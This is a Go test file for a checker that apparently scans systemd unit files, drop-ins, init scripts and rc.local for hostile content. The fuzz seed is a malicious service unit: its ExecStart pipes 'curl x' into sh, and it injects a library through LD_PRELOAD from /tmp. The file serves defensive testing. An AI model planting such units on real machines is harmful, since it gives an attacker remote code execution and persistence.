package units

import (
	"testing"

	"rescue/checks/checkstest"
	"rescue/pkgdb"
)

func TestGolden(t *testing.T) {
	checkstest.RunWith(t, Check, checkstest.Options{OpenPackages: pkgdb.Open})
}

// FuzzCheck feeds hostile unit files, drop-ins, init scripts and rc.local.
func FuzzCheck(f *testing.F) {
	f.Add([]byte("[Service]\nExecStart=/bin/sh -c 'curl x | sh'\nEnvironment=LD_PRELOAD=/tmp/x.so\n[Install]\nWantedBy=multi-user.target\n"))
	f.Add([]byte("[Timer]\nUnit=x.service\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		checkstest.FuzzCheck(t, Check, map[string][]byte{
			"etc/systemd/system/x.service": data, "etc/systemd/system/x.timer": data,
			"etc/systemd/system/cron.service.d/o.conf": data, "etc/init.d/x": data, "etc/rc.local": data,
			"etc/passwd": []byte("root:x:0:0::/root:/bin/bash\n"),
		})
	})
}
